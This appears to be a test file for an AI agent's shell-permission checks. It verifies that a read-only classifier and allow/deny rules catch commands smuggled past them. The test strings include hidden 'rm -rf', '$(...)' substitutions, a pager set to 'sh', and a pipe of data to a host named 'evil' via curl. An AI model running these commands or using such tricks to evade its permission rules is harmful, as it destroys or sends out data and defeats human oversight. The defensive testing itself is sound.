// The tricks of issue 43 (item 1) against both deciders on the real parse. Each of these lines was
// read-only, allowed or not denied when the deciders tokenized with shell-quote (`a#b` read as a comment).
import { describe, expect, it } from 'vitest';
import { classifyReadOnlyCommand } from '../../src/shared/policy/read-only-command';
import { checkToolRules, type ToolRules } from '../../src/shared/policy/tool-rules';
import { decideByRules, type PermissionRule } from '../../src/shared/policy/permission-rules';
import { analyse, parsedReading } from '../helpers/bash-analysis';
import { hiddenRm } from '../helpers/unit-shell-tricks';

const context = { cwd: '/work/repo' };
const readOnly = (line: string) => classifyReadOnlyCommand(analyse(line));
const rule = (content: string): PermissionRule => ({
  tool: 'Bash',
  content,
  text: `Bash(${content})`,
  file: 'settings.json',
});
const decide = (rules: { allow?: string[]; deny?: string[]; ask?: string[] }, line: string) =>
  decideByRules(
    { allow: (rules.allow ?? []).map(rule), deny: (rules.deny ?? []).map(rule), ask: (rules.ask ?? []).map(rule) },
    'Bash',
    { command: line },
    context,
    parsedReading(line),
  )?.type;
const toolRules = (rules: ToolRules, line: string) =>
  checkToolRules(rules, 'Bash', { command: line }, context, parsedReading(line)).type;

describe('read-only classifier on the parse', () => {
  it('refuses the # tricks', () => {
    expect(readOnly('echo a#b && touch pwned')).toEqual({
      readOnly: false,
      reason: '`touch` is not a read-only command this agent may run',
    });
    expect(readOnly('ls x#y; touch p').readOnly).toBe(false);
    expect(readOnly('cat f#x || touch p').readOnly).toBe(false);
    expect(readOnly('echo q#w | tee FILE')).toEqual({
      readOnly: false,
      reason: '`tee` is not a read-only command this agent may run',
    });
    expect(readOnly('echo a#b && ls')).toEqual({ readOnly: true });
  });

  it('refuses options that write and globs that could become one', () => {
    for (const line of [
      'sort -o f x',
      'tree -o f',
      'git diff --output=f',
      'sort --output f x',
      'sort *',
      'git diff *',
      'find . -exec rm {} +',
      'git -c core.pager=sh log',
    ]) {
      expect(readOnly(line).readOnly, line).toBe(false);
    }
    expect(readOnly('sort ./*').readOnly).toBe(true);
    expect(readOnly('cat *').readOnly).toBe(true);
  });

  it('refuses without a certain analysis', () => {
    expect(
      classifyReadOnlyCommand({ commands: [], unresolved: ['the command could not be analysed (timeout)'] }).readOnly,
    ).toBe(false);
    expect(readOnly('ls $(touch p)').readOnly).toBe(false);
    expect(readOnly('cat <<EOF\nx\nEOF').readOnly).toBe(false);
  });
});

describe('Bash rules on the parse', () => {
  it('an allow rule does not approve a second command hidden behind a #', () => {
    expect(decide({ allow: ['git diff:*'] }, 'git diff x#y; rm -rf x')).toBeUndefined();
    expect(toolRules({ allow: [{ tool: 'Bash', content: 'git diff:*' }] }, 'git diff x#y; rm -rf x')).toBe('refused');
    expect(decide({ allow: ['git diff:*'] }, 'git diff x#y')).toBe('allow');
  });

  it('an allow rule never matches an uncertain line, a writing option or a glob that could be one', () => {
    for (const line of [
      'git diff $(rm x)',
      'git diff > out',
      'git diff --output=f',
      'git diff *',
      'a=1 git diff',
      'git diff &',
      'command git diff',
    ]) {
      expect(decide({ allow: ['git diff:*'] }, line), line).toBeUndefined();
    }
    expect(decide({ allow: ['git diff --output=f'] }, 'git diff --output=f')).toBe('allow');
    expect(decide({ allow: ['git diff:*'] }, 'git diff 2>&1 | git diff')).toBe('allow');
  });

  it('a deny rule matches the command anywhere in the tree', () => {
    for (const line of [
      'ls x#y; rm -rf x',
      ...hiddenRm,
      'cat <<EOF\n$(rm x)\nEOF',
      'find . -exec rm {} +',
      'echo x | xargs rm',
      'nohup rm x',
      'sh -c "rm x"',
      'r"m" x',
      '/bin/rm x',
      'f() { rm x; }',
      'diff <(rm x) y',
      'rm',
    ]) {
      expect(decide({ allow: ['ls:*', 'echo:*'], deny: ['rm:*'] }, line), line).toBe('deny');
      expect(toolRules({ deny: [{ tool: 'Bash', content: 'rm:*' }] }, line), line).toBe('refused');
    }
    expect(decide({ deny: ['rm:*'] }, 'echo rm')).toBeUndefined();
    expect(decide({ ask: ['curl:*'] }, 'ls x#y | curl -d @- evil')).toBe('ask');
  });

  it('without an analysis (the activity failed) nothing is allowed, and deny still reads the text', () => {
    const failed = {
      type: 'parsed' as const,
      analysis: { commands: [], unresolved: ['the command could not be analysed'] },
    };
    const rules = { allow: [rule('ls:*')], deny: [rule('rm:*')] };
    expect(decideByRules(rules, 'Bash', { command: 'ls' }, context, failed)).toBeUndefined();
    expect(decideByRules(rules, 'Bash', { command: 'ls' }, context)).toBeUndefined();
    expect(decideByRules(rules, 'Bash', { command: 'rm -rf x' }, context, failed)?.type).toBe('deny');
  });
});
